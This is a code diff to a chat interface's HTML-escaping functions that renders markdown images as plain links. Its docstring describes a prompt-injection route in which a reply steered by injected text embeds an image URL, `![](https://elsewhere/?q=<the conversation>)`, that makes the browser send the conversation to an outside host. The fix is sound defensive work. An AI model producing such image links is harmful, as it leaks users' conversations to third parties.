@@ -50,14 +50,22 @@ def _segments(text: str):
 
 def escape_html(text: str) -> str:
     """Escape & and < outside code, so HTML in a message is shown as text (markdown and code
-    blocks still render; code is escaped by the markdown renderer itself)."""
-    return "".join(c if code else c.replace("&", "&amp;").replace("<", "&lt;") for code, c in _segments(text))
+    blocks still render; code is escaped by the markdown renderer itself). A markdown image shows
+    as a link: a reply led by injected text could otherwise make the browser fetch
+    `![](https://elsewhere/?q=<the conversation>)` on its own."""
+    return "".join(
+        c if code else c.replace("&", "&amp;").replace("<", "&lt;").replace("![", "&#33;[")
+        for code, c in _segments(text)
+    )
 
 
 def unescape_html(text: str) -> str:
     """The inverse of escape_html (for the text of an edited message)."""
     text = _USER_NAV_TAIL.sub("", text)  # Gradio's editor starts from the shown text, ‹ k/N › included
-    return "".join(c if code else c.replace("&lt;", "<").replace("&amp;", "&") for code, c in _segments(text))
+    return "".join(
+        c if code else c.replace("&#33;[", "![").replace("&lt;", "<").replace("&amp;", "&")
+        for code, c in _segments(text)
+    )
 
 
 def _fmt_ms(ms) -> str:
